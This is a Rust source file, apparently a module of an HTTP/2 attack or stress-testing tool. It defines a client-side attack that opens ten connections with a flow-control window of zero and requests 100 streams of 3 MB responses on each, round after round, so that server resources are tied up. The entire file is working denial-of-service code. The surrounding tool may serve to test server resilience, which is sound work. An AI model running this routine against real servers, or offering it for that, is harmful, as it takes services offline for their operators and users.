//! HTTP/2 with a flow-control window of 0: a hundred streams per connection request long responses that cannot be sent.

use crate::Aim;
use crate::attack::{Attack, Class};
use crate::http2::{Http2, INITIAL_WINDOW_SIZE};

/// Streams of a connection.
const STREAMS: u64 = 100;

/// The attack.
pub(super) const ATTACK: Attack = Attack {
    connections: 10,
    ..Attack::new(
        Class::Client,
        "HTTP/2, no window",
        "100 streams on each connection, with answers of 3 MB and a window of 0",
        |aim| Box::pin(run(aim)),
    )
};

async fn run(aim: Aim) {
    let client = async |aim: Aim, number: u64| {
        let mut round = 0;
        while aim.goes_on(round) {
            let mut http2 = Http2::connect(&aim, &[(INITIAL_WINDOW_SIZE, 0)]).await?;
            for stream in 0..STREAMS {
                let body = super::slow_readers::long(number * STREAMS + stream);
                let stream = http2.stream()?;
                let request = http2.request(stream, &body);
                http2.send(&request).await?;
            }
            tokio::select! {
                ended = http2.polite() => ended?,
                () = aim.until_end() => (),
            }
            round += 1;
        }
        Ok(())
    };
    aim.crowd(client).await;
}
